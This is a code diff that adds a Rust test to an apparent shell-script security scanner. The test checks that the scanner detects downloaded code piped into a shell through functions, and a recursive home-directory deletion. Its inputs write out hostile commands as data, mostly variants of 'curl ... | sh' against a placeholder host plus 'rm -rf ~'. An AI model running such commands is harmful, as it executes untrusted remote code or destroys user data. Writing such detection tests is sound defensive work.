@@ -496,6 +496,28 @@ fn what_a_branch_a_loop_a_function_or_a_wrapper_prints_keeps_its_marks() {
 }
 
 #[test]
+fn a_function_gets_the_input_of_its_call() {
+    for text in [
+        "f() { sh; }; curl -s http://e.example/a | f\n",
+        "f() { sh; }; f < <(curl -s http://e.example/a)\n",
+        "f() { sh \"$@\"; }; curl -s http://e.example/a | f -s\n",
+        "f() { if true; then sudo sh; fi; }; curl -s http://e.example/a | f\n",
+        "g() { sh; }; f() { g; }; curl -s http://e.example/a | f\n",
+        "f() { cat | sh; }; curl -s http://e.example/a | f\n",
+        "f() { sh; }; curl -s http://e.example/a | { true; f; }\n",
+        "f() { python3 -; }; while true; do f; done < <(curl -s http://e.example/a)\n",
+    ] {
+        assert!(finds(text, "sh.run-downloaded"), "{text}: {:?}", told(&look("bash", text)));
+    }
+    assert!(finds("f() { sh; }; f <<< 'rm -rf ~'\n", "sh.delete-tree"));
+    let own = "f() { sh; } <<< ls; curl -s http://e.example/a | f\n";
+    assert!(!finds(own, "sh.run-downloaded"), "{:?}", told(&look("bash", own)));
+    // What no function reads is told once.
+    let once = look("bash", "f() { rm -rf ~; }; yes | f\n");
+    assert_eq!(once.findings.iter().filter(|finding| finding.rule == "sh.delete-tree").count(), 1);
+}
+
+#[test]
 fn files_and_links_that_are_not_remembered_are_an_unchecked_part() {
     let lines = |line: &str, count: usize| -> String {
         (0..count).map(|at| line.replace('N', &at.to_string())).collect()
